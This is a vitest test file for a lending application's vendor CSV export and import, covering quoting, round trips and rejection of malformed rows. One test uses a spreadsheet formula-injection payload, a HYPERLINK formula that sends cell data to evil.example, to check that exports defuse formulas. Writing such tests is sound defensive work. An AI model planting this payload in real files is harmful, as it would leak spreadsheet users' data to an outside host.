import { describe, expect, it } from 'vitest';
import { formatCsv, parseCsv } from '@lendhub/domain/csv';
import { OPTIONS, VALID_VENDOR_FORM } from './testing/vendorFixtures';
import { planVendorImport, VENDOR_CSV_HEADER, vendorsToCsv, type ExportedVendor } from './vendorCsv';
import { vendorFormSchema } from './vendorFormSchema';

const input = vendorFormSchema(OPTIONS).parse(VALID_VENDOR_FORM);

function exported(overrides: Partial<ExportedVendor> = {}): ExportedVendor {
  return {
    ...input,
    internalId: 7,
    createdBy: 'system',
    createdAt: '2026-01-02T03:04:05.000Z',
    modifiedBy: 'system',
    modifiedAt: '2026-01-02T03:04:05.000Z',
    ...overrides,
  };
}

describe('vendorsToCsv', () => {
  it('writes a header and one column per field, quoting lists and text with commas or quotes', () => {
    const csv = vendorsToCsv([exported({ description: 'Says "hello", twice', loanTypes: ['FHA', 'VA'] })]);
    const [header, row] = parseCsv(csv);
    expect(header!.fields).toEqual(VENDOR_CSV_HEADER);
    expect(header!.fields).toHaveLength(21);
    expect(csv).toContain('"Says ""hello"", twice"');
    expect(csv).toContain('"FHA, VA"');
    const cell = (name: string) => row!.fields[VENDOR_CSV_HEADER.indexOf(name)];
    expect([cell('vendorId'), cell('vendorName'), cell('status'), cell('rating'), cell('fiveOneARMRate'), cell('services')]).toEqual([
      '7',
      'Acme Mortgage',
      'Active',
      '4.5',
      '5.99',
      'HELOC, Refinancing',
    ]);
  });

  it("writes a vendor named like a formula as text (a leading '), so a spreadsheet does not run it", () => {
    const name = '=HYPERLINK("https://evil.example/?d="&B2,"Click me")';
    const csv = vendorsToCsv([exported({ name, description: '@SUM(1+1)', phoneNumber: '+1 (555) 010-0100' })]);
    const line = csv.split('\r\n')[1]!;
    expect(line).toContain('"\'=HYPERLINK(""https://evil.example/?d=""&B2,""Click me"")"');
    expect(line).toContain(",'@SUM(1+1),");
    // No cell of the data row starts with a formula character once unquoted.
    const cells = line.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((cell) => cell.replace(/,$/, '').replace(/^"|"$/g, ''));
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });
});

describe('planVendorImport', () => {
  it('reads formula-like texts back exactly as they were before export', () => {
    const vendor = exported({
      name: '=HYPERLINK("https://evil.example/?d="&B2,"Click me")',
      description: "-minus, @at, +plus and '=quoted",
    });
    const records = parseCsv(vendorsToCsv([vendor])).map(({ fields }) => fields.slice(1));
    const plan = planVendorImport(formatCsv(records), OPTIONS);
    expect(plan.refused).toEqual([]);
    expect(plan.create[0]!.input.name).toBe(vendor.name);
    expect(plan.create[0]!.input.description).toBe(vendor.description);
  });

  it('round trip: an exported file without its ids gives back equal vendor inputs', () => {
    const vendors = [
      exported(),
      exported({ internalId: 8, name: 'Beta, "Quoted" Bank', status: 'INACTIVE', description: 'two\nlines', loanTypes: ['VA', 'Jumbo'] }),
    ];
    const records = parseCsv(vendorsToCsv(vendors)).map(({ fields }) => fields.slice(1));
    const plan = planVendorImport(formatCsv(records), OPTIONS);
    expect(plan.fileError).toBeNull();
    expect(plan.refused).toEqual([]);
    expect(plan.create.map((row) => row.input)).toEqual(
      vendors.map(({ internalId, createdBy, createdAt, modifiedBy, modifiedAt, ...rest }) => rest),
    );
    // The second record starts on line 3; its description spans two lines, so nothing follows on 4.
    expect(plan.create.map((row) => row.line)).toEqual([2, 3]);
  });

  it('refuses bad rows with their line, column and the spec message, and keeps the good ones', () => {
    const good = parseCsv(vendorsToCsv([exported()]))[1]!.fields;
    const bad = [...good];
    bad[VENDOR_CSV_HEADER.indexOf('vendorName')] = '';
    bad[VENDOR_CSV_HEADER.indexOf('contactEmail')] = 'not-an-email';
    bad[VENDOR_CSV_HEADER.indexOf('rating')] = '';
    const plan = planVendorImport(formatCsv([VENDOR_CSV_HEADER, good, bad]), OPTIONS);
    expect(plan.create).toHaveLength(1);
    expect(plan.refused).toEqual([
      {
        line: 3,
        name: '',
        problems: [
          { column: 'vendorName', message: 'Please enter vendor name' },
          { column: 'contactEmail', message: 'Please enter a valid email' },
          { column: 'rating', message: 'Please select rating' },
        ],
      },
    ]);
  });

  it('reads columns by name in any order', () => {
    const [header, row] = parseCsv(vendorsToCsv([exported()])).map((record) => [...record.fields].reverse());
    expect(planVendorImport(formatCsv([header!, row!]), OPTIONS).create).toHaveLength(1);
  });

  it.each([
    ['', 'The file is empty'],
    ['vendorName,category\r\nA,Bank\r\n', 'Missing columns: description, contactEmail'],
    [`${VENDOR_CSV_HEADER.join(',')}\r\n`, 'The file has no vendor rows'],
    ['vendorName\r\n"open', 'Line 2: a quoted field is not closed'],
  ])('refuses the file %#: %s', (text, message) => {
    expect(planVendorImport(text, OPTIONS).fileError).toContain(message);
  });
});
